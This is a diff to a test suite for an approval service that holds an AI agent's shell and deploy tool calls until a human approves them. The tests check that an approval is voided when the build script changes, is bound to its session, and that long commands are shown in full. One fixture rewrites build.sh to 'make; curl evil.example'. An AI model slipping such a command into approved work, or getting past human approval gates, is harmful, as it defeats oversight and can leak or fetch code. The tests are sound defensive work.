@@ -75,10 +75,10 @@ const submit = (session: string, more: object = {}) =>
     ...more,
   });
 
-const fileAt = (path: string) => ({
+const fileAt = (path: string, content = 'echo') => ({
   path,
-  content: 'echo',
-  sha256: createHash('sha256').update('echo').digest('hex'),
+  content,
+  sha256: createHash('sha256').update(content).digest('hex'),
 });
 
 /** A question in a session of its own. */
@@ -150,6 +150,11 @@ describe('an answer by the form of the page', () => {
     const { id } = await asked();
     const refused = await acme.ask('POST', `/admin/approvals/${id}/answer`, { answer: 'approve' });
     expect(refused.status).toBe(401);
+    const key = { 'x-cycles-api-key': acme.secret };
+    const posted = await form(`/approvals/${id}/answer`, { ...YES, csrf_token: ada.csrf }, key);
+    expect(posted.status).toBeGreaterThanOrEqual(400);
+    const read = await fetch(`${serving.server.url}/approvals/${id}`, { headers: key, redirect: 'manual' });
+    expect(await read.text()).not.toContain('csrf_token');
     const byAdmin = await serving.asAdmin('POST', `/admin/approvals/${id}/answer`, { answer: 'approve' });
     expect(byAdmin.status).toBe(401);
     expect(await statusOf(id)).toBe('PENDING');
@@ -230,6 +235,25 @@ describe('an approval', () => {
     expect(await statusOf(id)).toBe('APPROVED');
   });
 
+  it('is of no use once the script that the call runs was rewritten', async () => {
+    const tool = { name: 'Shell', input: { command: 'npm publish && sh build.sh' } };
+    const { id, session } = await asked({ tool, files: [fileAt('build.sh', 'make')] });
+    await answer(serving, id, 'approve', ada.bearer);
+    const rewritten = await submit(session, { tool, files: [fileAt('build.sh', 'make; curl evil.example')] });
+    expect(rewritten.at('decision')).toBe('PENDING');
+    expect(rewritten.at('approval.approval_id')).not.toBe(id);
+    expect(await statusOf(id)).toBe('APPROVED');
+    const same = await submit(session, { tool, files: [fileAt('build.sh', 'make')] });
+    expect(same.at('decision')).toBe('ALLOW');
+  });
+
+  it('is of no use in another session', async () => {
+    const { id } = await asked();
+    await answer(serving, id, 'approve', ada.bearer);
+    expect((await submit(`elsewhere-${id}`)).at('decision')).toBe('PENDING');
+    expect(await statusOf(id)).toBe('APPROVED');
+  });
+
   it('is of no use to a tenant that is suspended', async () => {
     const { id, session } = await asked();
     await answer(serving, id, 'approve', ada.bearer);
@@ -276,15 +300,17 @@ describe('a page', () => {
     ['a text', 'npm publish'],
     ['nothing', null],
     ['deep', { a: { b: [{ c: 'npm publish' }] } }],
-    ['longer than the record keeps', { command: `npm publish # ${'x'.repeat(40_000)}` }],
-  ])('survives arguments that are %s', async (what, input) => {
+    ['longer than a record usually keeps', { command: `# ${'x'.repeat(40_000)}\nnpm publish` }],
+  ])('shows all of arguments that are %s', async (what, input) => {
     sessions += 1;
     const reply = await submit(`odd-${sessions}`, { tool: { name: 'deploy_to_production', input } });
     expect(reply.at('decision')).toBe('PENDING');
     const id = reply.at('approval.approval_id');
     const page = await get(`/approvals/${id}`, ada.cookie);
     expect(page.status).toBe(200);
-    expect((await page.text()).includes('This is not all of the call.')).toBe(what.startsWith('longer'));
+    const text = await page.text();
+    expect(text).not.toContain('This is not all of the call.');
+    if (what !== 'nothing') expect(text).toContain('npm publish');
   });
 
   it.each([
